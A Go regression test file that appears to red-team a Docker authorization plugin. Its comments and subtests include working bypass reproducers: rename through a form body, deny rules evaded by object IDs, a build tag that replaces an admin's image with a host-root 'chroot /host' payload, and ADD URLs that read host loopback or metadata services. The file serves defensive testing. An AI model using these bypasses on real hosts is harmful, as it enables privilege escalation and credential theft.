package cmd

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dtls-tool/dtls/internal/atomicfile"
)

// redTeam4Policy is redTeam3Policy with a role whose deny rules name an
// image by its name.
func redTeam4Policy(work string) string {
	return fmt.Sprintf(`{
  "default_role": "readonly",
  "bind_roots": [%q],
  "roles": {
    "ci":       {"base": "developer", "capabilities": ["build"]},
    "imgguard": {"base": "developer", "deny": ["DELETE /images/victim:1", "GET /images/victim:1/json"]},
    "guard":    {"base": "developer", "deny": ["GET /containers/keep4/json", "POST /containers/keep4/stop",
                 "GET /networks/gnet4", "GET /volumes/gvol4", "GET /containers/keep4/changes",
                 "POST /networks/gnet4/connect", "DELETE /networks/gnet4"]}
  }
}
`, filepath.Join(work, "{user}"))
}

// TestRedTeamAuthz4 is the fourth round, after the fixes the three
// earlier rounds hold: query parameters dockerd reads from a form body
// (net/http's ParseForm puts an application/x-www-form-urlencoded body
// of a POST or PUT before the query in r.Form, and dockerd forwards no
// such body to the plugin), and rules that name an image. Refused shapes
// are regression checks; each way in found, now closed, is a subtest
// named Attack_* (its comment has the reproducer); Finding_* log what
// reaches the host by design (an ADD URL in a classic build). Shapes tried: POST /build with networkmode=host
// and remote=URL in a form body (the query clean); POST /build with
// networkmode=host in the query, and with networkmode=default&networkmode=host
// (first value read by both sides); POST /containers/{id}/rename with
// the new name in a form body; DELETE and GET /images/{name} denied by
// name, asked by ID and by other spellings (docker.io/library/...);
// deny rules naming a container, network and volume asked by ID, short
// ID, upper case, "%2F", "/"-prefixed, trailing "/", "%00", "%2E/";
// the same on routes that are not owned (GET /networks/{id}, POST
// /networks/{id}/connect, GET /containers/{id}/changes) and DELETE
// /networks by ID; POST /build?t= naming an image admin runs, also as
// a second t and as docker.io/library/NAME; start with checkpoint in a
// form body (API 1.41, 1.23, 1.12); an exec made by a developer started
// after its role became readonly, and its own container's stop, kill,
// logs, rename and removal then; build parameters in a multipart body;
// readonly's image history (build arguments) and another's container's
// changes (Finding_*); a classic build's ADD of a host loopback URL. Measured on dockerd 20.10.24: the build route
// reads neither an urlencoded nor a multipart body as its form (the
// build runs, the body's networkmode does not apply); rename does. Not
// tried: BuildKit's own requests through /session (the host's docker
// CLI needs buildx, which is not installed).
func TestRedTeamAuthz4(t *testing.T) {
	t.Parallel()
	r := startRedTeam2(t)
	importImage(t, r.d, "tool3:1", map[string]string{"tool3": buildTool3(t), "tool2": buildTool2(t), "tool": buildTool(t)})
	policyPath := filepath.Join(filepath.Dir(r.audit), "authz-policy.json")
	require.NoError(t, atomicfile.Write(policyPath, []byte(redTeam4Policy(r.work)), 0o644))
	for name, role := range map[string]string{"cici": "ci", "ivan": "imgguard", "gus": "guard"} {
		_, stderr, code := dtls(t, time.Now(), "issue-client", name, "--role", role, "--policy", policyPath, "--state-dir", r.state, "--out", filepath.Join(r.bundle, name))
		require.Equal(t, 0, code, stderr)
		r.client[name] = rawClient(t, filepath.Join(r.bundle, name))
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		if code, _ := r.raw("ivan", "GET", "/v1.41/images/json", "", ""); code == 200 {
			break
		}
		require.True(t, time.Now().Before(deadline), "the policy with roles was not loaded")
		time.Sleep(50 * time.Millisecond)
	}
	adminBox := r.must("root-admin", "run", "-d", "--name", "adminbox4", "tool:1", "/tool", "sleep")
	devBox := r.must("dev", "run", "-d", "--name", "devbox4", "tool:1", "/tool", "sleep")

	// A service on the host's loopback, as a database or a metrics
	// endpoint bound to 127.0.0.1 is: it says its secret to whoever
	// connects.
	secretLn, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { secretLn.Close() })
	var secretHits atomic.Int64
	go func() {
		for {
			c, err := secretLn.Accept()
			if err != nil {
				return
			}
			secretHits.Add(1)
			_, _ = c.Write([]byte("host-loopback-secret-4\n"))
			c.Close()
		}
	}()
	dockerfile := fmt.Sprintf("FROM tool3:1\nRUN [\"/tool3\", \"dial\", %q]\n", secretLn.Addr().String())
	// The remote build context: a plain-text answer is a Dockerfile
	// (moby builder/remotecontext/remote.go).
	ctxLn, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	ctxSrv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		_, _ = w.Write([]byte(dockerfile))
	}), ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = ctxSrv.Serve(ctxLn) }()
	t.Cleanup(func() { ctxSrv.Close() })
	remote := "http://" + ctxLn.Addr().String() + "/Dockerfile"

	// Checked: networkmode=host in the query is refused, first value or
	// a later one dockerd does not read.
	t.Run("Checked_build_host_network_in_query", func(t *testing.T) {
		for _, q := range []string{"networkmode=host", "networkmode=host&networkmode=default"} {
			code, body := r.raw("cici", "POST", "/v1.41/build?rm=1&forcerm=1&nocache=1&"+q+"&remote="+url.QueryEscape(remote), "", "")
			assert.Equal(t, 403, code, "%s: %s", q, tailString(body, 300))
			assert.NotContains(t, body, "host-loopback-secret-4")
		}
		// networkmode=default first: dockerd reads the first value too.
		code, body := r.raw("cici", "POST", "/v1.41/build?rm=1&forcerm=1&nocache=1&networkmode=default&networkmode=host&remote="+url.QueryEscape(remote), "", "")
		assert.NotContains(t, body, "host-loopback-secret-4", "answer %d", code)
		t.Logf("networkmode=default&networkmode=host: %d %s", code, tailString(body, 200))
	})

	// Checked (was a suspected bypass): dockerd reads POST /build's parameters with r.FormValue
	// after ParseForm (moby api/server/router/build/build_routes.go
	// newImageBuildOptions); for a POST whose Content-Type is
	// application/x-www-form-urlencoded, net/http reads the body as a
	// form and puts its values before the query's. dockerd forwards no
	// such body to the plugin (only JSON ones), which checks the query
	// alone: networkmode=host in the body gives every RUN step the host's
	// network, and its loopback services. The context then comes from
	// remote= (the body is spent on the form), also in the body.
	//
	// Measured on dockerd 20.10.24: the build does not read a form body
	// (admin's build with networkmode=host in a form body stays off the
	// host's network; remote= in a form body is not seen, the context is
	// the spent body: "unexpected EOF"). Kept as a check: a ci build with
	// networkmode=host in a form body must not reach the host's loopback.
	t.Run("Checked_build_host_network_in_form_body", func(t *testing.T) {
		// What dockerd itself reads, as admin: the RUN step reaches the
		// host's loopback service only on the host's network.
		for _, v := range []struct{ query, form string }{
			{"networkmode=host&remote=" + url.QueryEscape(remote), ""},
			// The build runs with a form body: the host network from the
			// query reaches the service, so a miss below is the form unread.
			{"networkmode=host&remote=" + url.QueryEscape(remote), "foo=bar"},
			{"remote=" + url.QueryEscape(remote), "networkmode=host"},
			{"", "networkmode=host&remote=" + url.QueryEscape(remote)},
		} {
			before := secretHits.Load()
			code, body := r.raw("root-admin", "POST", "/v1.41/build?rm=1&forcerm=1&nocache=1&"+v.query, formType(v.form), v.form)
			t.Logf("admin's build query %q form %q: %d, host loopback reached %d time(s): %s", v.query, v.form, code, secretHits.Load()-before, tailString(body, 160))
		}
		for _, v := range []struct{ query, form string }{
			{"remote=" + url.QueryEscape(remote), "networkmode=host"},
			{"", "networkmode=host&remote=" + url.QueryEscape(remote)},
		} {
			before := secretHits.Load()
			code, body := r.raw("cici", "POST", "/v1.41/build?rm=1&forcerm=1&nocache=1&"+v.query, formType(v.form), v.form)
			assert.Equal(t, before, secretHits.Load(),
				"a build of the ci role (query %q, form body %q) ran on the host's network and reached its loopback service (answer %d %s)", v.query, v.form, code, tailString(body, 200))
		}
	})

	// Probe: a multipart/form-data body (r.FormValue parses it after
	// the query, so a field the query lacks comes from it).
	t.Run("Checked_build_host_network_in_multipart_body", func(t *testing.T) {
		var buf strings.Builder
		mw := multipart.NewWriter(&buf)
		require.NoError(t, mw.WriteField("networkmode", "host"))
		require.NoError(t, mw.WriteField("remote", remote))
		require.NoError(t, mw.Close())
		for _, who := range []string{"root-admin", "cici"} {
			for _, q := range []string{"", "&remote=" + url.QueryEscape(remote)} {
				before := secretHits.Load()
				code, body := r.raw(who, "POST", "/v1.41/build?rm=1&forcerm=1&nocache=1"+q, mw.FormDataContentType(), buf.String())
				hits := secretHits.Load() - before
				t.Logf("%s build with a multipart body (query %q): %d, host loopback reached %d time(s): %s", who, q, code, hits, tailString(body, 160))
				if who == "cici" {
					assert.Zero(t, hits, "a build of the ci role took networkmode=host from a multipart body (answer %d %s)", code, tailString(body, 200))
				}
			}
		}
	})

	// Checked: a rename to a hexadecimal name in the query is refused.
	t.Run("Checked_rename_hex_name_in_query", func(t *testing.T) {
		code, body := r.raw("dev", "POST", "/v1.41/containers/"+devBox+"/rename?name="+adminBox[:12], "", "")
		assert.Equal(t, 403, code, body)
	})

	// Bypass: POST /containers/{id}/rename reads the new name with
	// r.Form.Get("name") after ParseForm (moby
	// api/server/router/container/container_routes.go
	// postContainerRename): a form body's name comes before the query's,
	// and the plugin sees neither the body nor its name. A developer
	// names its container as the short ID of an admin's, which dockerd
	// resolves by name before ID prefix (daemon.GetContainer): the admin's
	// "docker cp secret 5a6a715da87a:/tmp" or "docker exec 5a6a715da87a"
	// reaches the developer's container. The owners' book also records
	// the query's name, not the one the container got.
	//
	// Reproducer (developer; admin's container 5a6a715da87a):
	//
	//	curl --cert ... -H 'Content-Type: application/x-www-form-urlencoded' \
	//	    --data 'name=5a6a715da87a' \
	//	    'https://host:2376/v1.41/containers/mine/rename?name=ok'
	//	docker inspect -f '{{.Name}}' mine     # /5a6a715da87a
	//
	// Fix direction: refuse a rename whose body may be a form (any
	// non-empty body: dockerd reads none for a rename), as checkPull does.
	t.Run("Attack_rename_hex_name_in_form_body", func(t *testing.T) {
		code, body := r.raw("dev", "POST", "/v1.41/containers/"+devBox+"/rename?name=devbox4b", "application/x-www-form-urlencoded", "name="+adminBox[:12])
		name := r.mustT(t, "root-admin", "inspect", "-f", "{{.Name}}", devBox)
		assert.NotEqual(t, "/"+adminBox[:12], name,
			"a developer named its container as admin's short ID through a form body (answer %d %s)", code, body)
		// Admin's reference by short ID now reaches the developer's container.
		got, _ := r.as("root-admin", "inspect", "-f", "{{.Id}}", adminBox[:12])
		t.Logf("rename with a form body: %d %s; devbox is now %s; admin's %s resolves to %.12s", code, body, name, adminBox[:12], strings.TrimSpace(got))
		_, _ = r.as("root-admin", "rename", devBox, "devbox4")
	})

	// Checked: start reads checkpoint and checkpoint-dir with
	// r.Form.Get after ParseForm, so a form body could carry them past the
	// plugin; dockerd refuses a start body over 7 bytes from API 1.24 on
	// and decodes an older one as a HostConfig (moby container_routes.go
	// postContainersStart), so no form reaches it.
	t.Run("Checked_start_checkpoint_in_form_body", func(t *testing.T) {
		box := r.mustT(t, "dev", "create", "tool:1", "/tool", "sleep")
		t.Cleanup(func() { _, _ = r.as("root-admin", "rm", "-f", box) })
		for _, v := range []string{"v1.41", "v1.23", "v1.12"} {
			code, body := r.raw("dev", "POST", "/"+v+"/containers/"+box+"/start", "application/x-www-form-urlencoded", "checkpoint=c1&checkpoint-dir=/tmp")
			assert.NotEqual(t, 204, code, "%s: a start with a form body carrying checkpoint was accepted: %s", v, body)
			t.Logf("%s start with a form body: %d %s", v, code, tailString(body, 160))
		}
	})

	// Bypass: a rule naming an image ("DELETE /images/victim:1") is
	// matched on the request's text: images have no owner kind, so the
	// rule matcher (path.go ruleMatcher.matches, rt.own == "") does not
	// resolve the reference, and the same image by its ID is another
	// path. README says a rule whose literal stands for an object is
	// judged on the object the reference resolves to.
	//
	// Reproducer (role "imgguard": {"base": "developer", "deny":
	// ["DELETE /images/victim:1", "GET /images/victim:1/json"]}):
	//
	//	docker rmi victim:1                                    # denied
	//	docker rmi $(docker image inspect -f '{{.Id}}' victim:1) # removed
	//
	// Fix direction: resolve image references too (GET /images/X/json
	// gives its ID and RepoTags) and match the rule on each tag and the
	// ID; or refuse literals in image rules (a tag is not a stable name).
	t.Run("Attack_deny_rule_naming_an_image_evaded_by_its_id", func(t *testing.T) {
		f := filepath.Join(t.TempDir(), "victim")
		require.NoError(t, os.WriteFile(f, []byte(fmt.Sprint(time.Now().UnixNano())), 0o644))
		importImage(t, r.d, "victim:1", map[string]string{"victim": f})
		t.Cleanup(func() { _, _ = r.as("root-admin", "rmi", "-f", "victim:1") })
		code, body := r.raw("ivan", "GET", "/v1.41/images/victim:1/json", "", "")
		require.Equal(t, 403, code, "the deny rule by name: %s", body)
		id := r.mustT(t, "root-admin", "image", "inspect", "-f", "{{.Id}}", "victim:1")
		short := strings.TrimPrefix(id, "sha256:")[:12]
		for _, ref := range []string{id, strings.TrimPrefix(id, "sha256:"), short, "docker.io/library/victim:1", "library/victim:1",
			"docker.io%2Flibrary%2Fvictim:1", "index.docker.io/library/victim:1"} {
			acode, abody := r.raw("root-admin", "GET", "/v1.41/images/"+ref+"/json", "", "")
			if acode != 200 || !strings.Contains(abody, id) {
				t.Logf("dockerd does not take %s for victim:1 (%d)", ref, acode)
				continue
			}
			code, body = r.raw("ivan", "GET", "/v1.41/images/"+ref+"/json", "", "")
			assert.Equal(t, 403, code, "imgguard inspected victim:1 as %s despite its deny rule: %s", ref, tailString(body, 120))
		}
		code, body = r.raw("ivan", "DELETE", "/v1.41/images/victim:1", "", "")
		require.Equal(t, 403, code, "the deny rule by name: %s", body)
		code, body = r.raw("ivan", "DELETE", "/v1.41/images/"+id, "", "")
		assert.Equal(t, 403, code, "imgguard removed victim:1 by its ID despite its deny rule: %s", tailString(body, 200))
	})

	// Checked: deny rules that name a container, a network and a volume
	// hold for every reference dockerd takes for the object: its ID, a
	// short ID, a name with a leading slash (daemon.GetByName adds one),
	// an encoded slash, a doubled slash.
	t.Run("Checked_deny_rules_naming_objects_by_other_references", func(t *testing.T) {
		keep := r.mustT(t, "gus", "run", "-d", "--name", "keep4", "tool:1", "/tool", "sleep")
		t.Cleanup(func() { _, _ = r.as("root-admin", "rm", "-f", keep) })
		netID := r.mustT(t, "gus", "network", "create", "gnet4")
		t.Cleanup(func() { _, _ = r.as("root-admin", "network", "rm", netID) })
		r.mustT(t, "gus", "volume", "create", "gvol4")
		t.Cleanup(func() { _, _ = r.as("root-admin", "volume", "rm", "-f", "gvol4") })
		refs := func(name, id string) []string {
			out := []string{name, "%2F" + name, "/" + name, name + "/", name + "%00", "%2E/" + name}
			if len(id) >= 12 {
				out = append(out, id, id[:12], strings.ToUpper(id[:12]))
			}
			return out
		}
		try := func(prefix, suffix, name, id string) {
			for _, ref := range refs(name, id) {
				p := "/v1.41/" + prefix + "/" + ref + suffix
				acode, abody := r.raw("root-admin", "GET", p, "", "")
				if acode != 200 || !strings.Contains(abody, id) {
					t.Logf("dockerd does not take %s for %s (%d)", p, name, acode)
					continue
				}
				code, body := r.raw("gus", "GET", p, "", "")
				assert.Equal(t, 403, code, "guard read %s as %s despite its deny rule: %s", name, p, tailString(body, 120))
			}
		}
		try("containers", "/json", "keep4", keep)
		try("volumes", "", "gvol4", "gvol4")
		code, body := r.raw("gus", "POST", "/v1.41/containers/%2Fkeep4/stop?t=0", "", "")
		assert.NotEqual(t, 204, code, "guard stopped keep4 by /keep4: %s", body)
		for _, ref := range []string{netID, netID[:12]} {
			code, body := r.raw("gus", "DELETE", "/v1.41/networks/"+ref+"x", "", "")
			t.Logf("DELETE /networks/%sx: %d %s", ref[:12], code, tailString(body, 80))
		}
	})

	// Bypass: the rule matcher resolves a rule's literal to its object
	// only on ownedRoutes (path.go ruleMatcher.matches: rt.own == ""
	// matches the text). Routes that name a container or network but are
	// not owned (GET /networks/{id}, POST /networks/{id}/connect and
	// disconnect, GET /containers/{id}/changes, /stats, ...) take a deny
	// rule's name literally: the same call by ID or short ID is allowed.
	// README: "the same call by ID is denied too".
	//
	// Reproducer (role "guard": {"base": "developer", "deny":
	// ["POST /networks/gnet4/connect", "GET /networks/gnet4"]}):
	//
	//	docker network create gnet4; docker run -d --name c alpine sleep 1d
	//	docker network connect gnet4 c                                   # denied
	//	docker network connect $(docker network inspect -f '{{.Id}}' gnet4) c   # connected
	//	(the inspect: GET /networks/gnet4 denied, GET /networks/ID answered)
	//
	// Fix direction: give every route whose variable names a container,
	// network, volume or exec its object kind for rule matching (a kind
	// apart from ownedRoutes' ownership check), so that ruleMatcher
	// resolves the reference on all of them; or refuse at policy load a
	// rule with a literal on a route the matcher cannot resolve.
	t.Run("Attack_deny_rule_on_unowned_route_evaded_by_id", func(t *testing.T) {
		keep := r.mustT(t, "gus", "run", "-d", "--name", "keep4b", "tool:1", "/tool", "sleep")
		t.Cleanup(func() { _, _ = r.as("root-admin", "rm", "-f", keep) })
		netID := r.mustT(t, "gus", "network", "create", "gnet4")
		t.Cleanup(func() { _, _ = r.as("root-admin", "network", "rm", netID) })
		code, body := r.raw("gus", "GET", "/v1.41/networks/gnet4", "", "")
		require.Equal(t, 403, code, "the deny rule by name: %s", body)
		for _, ref := range []string{netID, netID[:12]} {
			code, body := r.raw("gus", "GET", "/v1.41/networks/"+ref, "", "")
			assert.Equal(t, 403, code, "guard inspected gnet4 as %.12s despite its deny rule: %s", ref, tailString(body, 120))
		}
		conn := fmt.Sprintf(`{"Container":%q}`, keep)
		code, body = r.raw("gus", "POST", "/v1.41/networks/gnet4/connect", "application/json", conn)
		require.Equal(t, 403, code, "the deny rule by name: %s", body)
		code, body = r.raw("gus", "POST", "/v1.41/networks/"+netID[:12]+"/connect", "application/json", conn)
		assert.Equal(t, 403, code, "guard connected its container to gnet4 by its short ID despite its deny rule: %s", body)
		if code == 200 {
			_, _ = r.as("root-admin", "network", "disconnect", "-f", netID, keep)
		}
		code, body = r.raw("gus", "GET", "/v1.41/containers/keep4b/changes", "", "")
		t.Logf("changes of keep4b by name (no rule for keep4b): %d", code)
		k4 := r.mustT(t, "gus", "run", "-d", "--name", "keep4c", "tool:1", "/tool", "sleep")
		t.Cleanup(func() { _, _ = r.as("root-admin", "rm", "-f", k4) })
		_, _ = r.as("root-admin", "rm", "-f", "keep4")
		_, _ = r.as("root-admin", "rename", k4, "keep4")
		code, body = r.raw("gus", "GET", "/v1.41/containers/keep4/changes", "", "")
		require.Equal(t, 403, code, "the deny rule by name: %s", body)
		code, body = r.raw("gus", "GET", "/v1.41/containers/"+k4+"/changes", "", "")
		assert.Equal(t, 403, code, "guard read keep4's changes by its ID despite its deny rule: %s", tailString(body, 120))
		code, body = r.raw("gus", "DELETE", "/v1.41/networks/"+netID, "", "")
		assert.Equal(t, 403, code, "guard removed gnet4 by its ID despite its deny rule: %s", body)
	})

	// Bypass: POST /images/{name}/tag is admin's ("it can replace an
	// image others run", path.go), but the build capability's POST
	// /build?t=NAME tags its result with any name too: a ci holder
	// replaces an image admin runs (adminapp:1) with its own, whose
	// command then runs in admin's next container, with admin's binds,
	// privileges and secrets (its environment, its volumes).
	//
	// Reproducer (role "ci": {"base": "developer", "capabilities":
	// ["build"]}; admin runs "docker run --privileged -v /:/host adminapp:1"):
	//
	//	printf 'FROM alpine\nCMD chroot /host sh -c "id > /tmp/pwned"\n' | \
	//	    DOCKER_BUILDKIT=0 docker build -t adminapp:1 -
	//	# admin's next "docker run ... adminapp:1" runs it as root on the host
	//
	// Fix direction: check POST /build's t (every value: dockerd reads
	// r.Form["t"]) as a tag of its own: refuse a name that exists and
	// was not built by the caller (record the builder of each tag in the
	// owners' book), or refuse t for roles without the tag capability;
	// the same for BuildKit's exporter names, which arrive through
	// /session and cannot be read (refuse version=2 with t=).
	t.Run("Attack_build_tag_replaces_admins_image", func(t *testing.T) {
		r.mustT(t, "root-admin", "tag", "tiny:1", "adminapp:1")
		t.Cleanup(func() { _, _ = r.as("root-admin", "rmi", "adminapp:1") })
		before := r.mustT(t, "root-admin", "image", "inspect", "-f", "{{.Id}}", "adminapp:1")
		ctx := buildContext(t, "FROM tool3:1\nLABEL built-by=ci\n")
		code, body := r.raw("dev", "POST", "/v1.41/build?rm=1&t=adminapp:1", "application/x-tar", ctx)
		assert.Equal(t, 403, code, "developer without the build capability built: %s", tailString(body, 200))
		for _, q := range []string{"t=adminapp:1", "t=ok4:1&t=adminapp:1", "t=docker.io/library/adminapp:1"} {
			code, body = r.raw("cici", "POST", "/v1.41/build?rm=1&"+q, "application/x-tar", ctx)
			after := r.mustT(t, "root-admin", "image", "inspect", "-f", "{{.Id}}", "adminapp:1")
			assert.Equal(t, before, after, "a build of the ci role (%s) replaced admin's image adminapp:1 (answer %d %s)", q, code, tailString(body, 160))
			if after != before {
				r.mustT(t, "root-admin", "tag", before, "adminapp:1")
			}
		}
		_, _ = r.as("root-admin", "rmi", "ok4:1")
	})

	// Bypass: a classic build's ADD of a URL is fetched by dockerd
	// itself, in the host's network namespace, whatever networkmode says:
	// ADD http://127.0.0.1:PORT/... reads a service bound to the host's
	// loopback (an admin API, a local registry's token endpoint; and
	// 169.254.169.254, the cloud metadata service's credentials) into an
	// image, and a RUN step prints it into the build's answer. README: the build capability's
	// steps run on the default networks or the caller's own, and
	// --network host is refused for its loopback services; ADD (and
	// remote=, round three's finding) reach them all the same.
	//
	// Reproducer (role "ci"; a service on the host's 127.0.0.1:8500):
	//
	//	printf 'FROM alpine\nADD http://127.0.0.1:8500/v1/kv/?recurse /kv\nRUN cat /kv\n' | \
	//	    DOCKER_BUILDKIT=0 docker build -
	//
	// Fix direction: the plugin cannot read a Dockerfile in a tar
	// context, nor fetch URLs on dockerd's behalf: refuse the classic
	// builder for roles that are not admin (version=1 or unset), or
	// document that the build capability reads whatever the host's
	// loopback and link-local addresses serve over HTTP (README's build
	// paragraph), and refuse remote= too.
	t.Run("Finding_build_add_url_reads_host_loopback", func(t *testing.T) {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		require.NoError(t, err)
		srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			_, _ = w.Write([]byte("host-http-secret-4\n"))
		}), ReadHeaderTimeout: 5 * time.Second}
		go func() { _ = srv.Serve(ln) }()
		t.Cleanup(func() { srv.Close() })
		// The RUN step prints the file back, in hex, into the build's
		// answer (docker cp out is admin's; a developer's own logs would do too).
		ctx := buildContext(t, fmt.Sprintf("FROM tool:1\nADD http://%s/s /s\nRUN [\"/tool\", \"read\", \"/s\", \"18\"]\n", ln.Addr()))
		code, body := r.raw("cici", "POST", "/v1.41/build?rm=1&forcerm=1&nocache=1", "application/x-tar", ctx)
		t.Logf("ci's build with ADD of a host loopback URL: %d %s", code, tailString(body, 300))
		// Finding (README): the plugin cannot read a Dockerfile inside the
		// context; with the build capability, dockerd fetches an ADD URL
		// from the host's network.
		t.Logf("FINDING: ADD of a host loopback URL read back by the build: %v", strings.Contains(body, hex.EncodeToString([]byte("host-http-secret-4"))))
	})

	// Checked: an exec a developer made before its role became readonly
	// does not start after, nor do its own containers stop or give their
	// logs: the role is judged as it is now.
	t.Run("Checked_exec_made_before_role_became_readonly", func(t *testing.T) {
		_, stderr, code := dtls(t, time.Now(), "issue-client", "dora", "--role", "developer", "--policy", policyPath, "--state-dir", r.state, "--out", filepath.Join(r.bundle, "dora"))
		require.Equal(t, 0, code, stderr)
		r.client["dora"] = rawClient(t, filepath.Join(r.bundle, "dora"))
		box := r.mustT(t, "dora", "run", "-d", "--name", "dorabox", "tool:1", "/tool", "sleep")
		t.Cleanup(func() { _, _ = r.as("root-admin", "rm", "-f", box) })
		code, body := r.raw("dora", "POST", "/v1.41/containers/"+box+"/exec", "application/json", `{"Cmd":["/tool","euid"],"AttachStdout":true}`)
		require.Equal(t, 201, code, body)
		var ex struct {
			ID string `json:"Id"`
		}
		require.NoError(t, json.Unmarshal([]byte(body), &ex))
		_, stderr, code = dtls(t, time.Now(), "role", "dora", "readonly", "--policy", policyPath, "--state-dir", r.state)
		require.Equal(t, 0, code, stderr)
		deadline := time.Now().Add(10 * time.Second)
		for {
			code, _ := r.raw("dora", "POST", "/v1.41/containers/"+box+"/exec", "application/json", `{"Cmd":["/tool","euid"]}`)
			if code == 403 {
				break
			}
			require.True(t, time.Now().Before(deadline), "the role change was not seen")
			time.Sleep(50 * time.Millisecond)
		}
		code, body = r.raw("dora", "POST", "/v1.41/exec/"+ex.ID+"/start", "application/json", `{"Detach":false,"Tty":false}`)
		assert.Equal(t, 403, code, "an exec made as developer started after the role became readonly: %s", tailString(body, 120))
		for _, c := range []struct{ method, path string }{
			{"POST", "/containers/" + box + "/stop?t=0"}, {"POST", "/containers/" + box + "/kill"},
			{"GET", "/containers/" + box + "/logs?stdout=1"}, {"POST", "/containers/" + box + "/rename?name=dorabox2"},
			{"DELETE", "/containers/" + box + "?force=1"},
		} {
			code, body = r.raw("dora", c.method, "/v1.41"+c.path, "", "")
			assert.Equal(t, 403, code, "readonly %s %s on its own container: %s", c.method, c.path, tailString(body, 120))
		}
	})

	// Finding: a readonly holder reads what another's build was given
	// as a build argument (docker history shows "|1 TOKEN=..." before
	// each RUN that sees it; Docker documents build args as visible) and
	// the file names another's container changed (GET
	// /containers/{id}/changes, not an owned route).
	t.Run("Finding_readonly_reads_build_args_and_changes", func(t *testing.T) {
		ctx := buildContext(t, "FROM tool:1\nARG TOKEN\nRUN [\"/tool\", \"euid\"]\n")
		code, body := r.raw("cici", "POST", "/v1.41/build?rm=1&t=cici/ci4:1&buildargs="+url.QueryEscape(`{"TOKEN":"ci-token-s3cret-4"}`), "application/x-tar", ctx)
		require.Equal(t, 200, code, tailString(body, 300))
		t.Cleanup(func() { _, _ = r.as("root-admin", "rmi", "cici/ci4:1") })
		code, body = r.raw("rita", "GET", "/v1.41/images/cici/ci4:1/history", "", "")
		if strings.Contains(body, "ci-token-s3cret-4") {
			t.Logf("FINDING: readonly reads a ci build's argument in the image's history (%d)", code)
		} else {
			t.Logf("readonly's history of cici/ci4:1: %d %s", code, tailString(body, 200))
		}
		code, body = r.raw("rita", "GET", "/v1.41/containers/"+adminBox+"/changes", "", "")
		t.Logf("readonly's changes of admin's container: %d %s", code, tailString(body, 160))
	})
}

// formType is the Content-Type of a form body, none without one.
func formType(form string) string {
	if form == "" {
		return ""
	}
	return "application/x-www-form-urlencoded"
}
